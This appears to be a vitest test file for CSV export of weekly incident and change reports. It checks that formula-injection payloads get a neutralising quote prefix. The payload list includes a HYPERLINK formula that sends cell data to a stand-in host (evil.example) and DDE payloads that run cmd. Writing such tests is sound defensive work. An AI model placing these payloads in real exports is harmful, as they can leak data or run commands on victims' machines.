import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { toCsv } from "./csv";
import { changesCsv, incidentsCsv } from "./weekly-csv";
import type { ChangeRow, IncidentRow } from "./weekly-report-model";

// OWASP "CSV Injection": a cell a spreadsheet would evaluate starts with one of these.
const FORMULAS = [
  '=HYPERLINK("https://evil.example?d="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1", // full-width equals sign (Apple Numbers normalises it)
];
const SAFE = ["Payments down", "a=b", "2026-11-24", " leading space", ""];

const cells = (csv: string) => parse(csv, { columns: true, relax_quotes: true }) as Record<string, string>[];

const incident = (title: string, extra: Partial<IncidentRow> = {}): IncidentRow => ({
  id: 7,
  title,
  severity: "SEV2",
  status: "RESOLVED",
  impactStartedAt: new Date("2026-11-16T10:00:00Z"),
  detectedAt: null,
  mitigatedAt: null,
  resolvedAt: new Date("2026-11-16T12:30:30Z"),
  durationSeconds: 9030,
  blastRadiusLevel: "HIGH",
  customerImpactPct: 12.5,
  failedTransactions: -3, // numeric column: a negative value stays a number
  services: [title],
  regions: ["eu-west-1"],
  capabilities: [],
  commander: title,
  reviewStatus: "NOT_STARTED",
  aiLinked: false,
  links: [],
  ...extra,
});

const change = (title: string): ChangeRow => ({
  id: 9,
  source: "api",
  externalId: title,
  kind: "DEPLOY",
  title,
  service: title,
  repository: title,
  author: title,
  authorLevel: "JUNIOR",
  shippedAt: new Date("2026-11-16T09:00:00Z"),
  rolledBackAt: null,
  aiAssisted: true,
  aiTool: title,
  aiInvolvement: "AGENT_AUTHORED",
  approvalRequired: true,
  approvalState: "PENDING",
  approvalDecidedAt: null,
  compliance: "VIOLATION",
  failed: false,
  links: [],
});

describe("CSV formula injection", () => {
  it.each(FORMULAS)("neutralises %j in every text cell of incidents.csv and changes.csv", (text) => {
    const [i] = cells(incidentsCsv([incident(text)]));
    for (const column of ["title", "services", "commander"]) expect(i[column]).toBe(`'${text}`);
    expect(i.failed_transactions).toBe("-3");
    expect(i.duration_minutes).toBe("150");
    const [c] = cells(changesCsv([change(text)]));
    for (const column of ["title", "external_id", "service", "repository", "author", "ai_tool"])
      expect(c[column]).toBe(`'${text}`);
  });

  it.each(SAFE)("leaves %j unchanged", (text) => {
    expect(cells(incidentsCsv([incident(text)]))[0].title).toBe(text);
  });

  it("keeps numbers numeric, negative ones too, and writes booleans as words", () => {
    const csv = toCsv(["n", "s", "b"], [[-2.5, "-2.5", true]]);
    expect(csv).toBe("n,s,b\n-2.5,'-2.5,true\n");
  });
});

describe("CSV formula injection, property-based", () => {
  it("reads back every text exactly, with a leading ' only where a spreadsheet would see a formula", () => {
    const pieces = fc.constantFrom(..."=+-@\t\r\n,\";'xX1 ＝".split(""), "HYPERLINK(", "cmd|");
    const text = fc.array(pieces, { maxLength: 20 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(text, fc.double({ noNaN: true, noDefaultInfinity: true }), (input, n) => {
        const [row] = parse(toCsv(["s", "n"], [[input, n]]), { columns: true }) as Record<string, string>[];
        const formula = /^[=+\-@\t\r＝]/.test(input);
        expect(row.s).toBe(formula ? `'${input}` : input);
        expect(Number(row.n)).toBe(n === 0 ? 0 : n); // numbers stay numbers, negative ones too
      }),
      { seed: 20261129, numRuns: 400 },
    );
  });
});
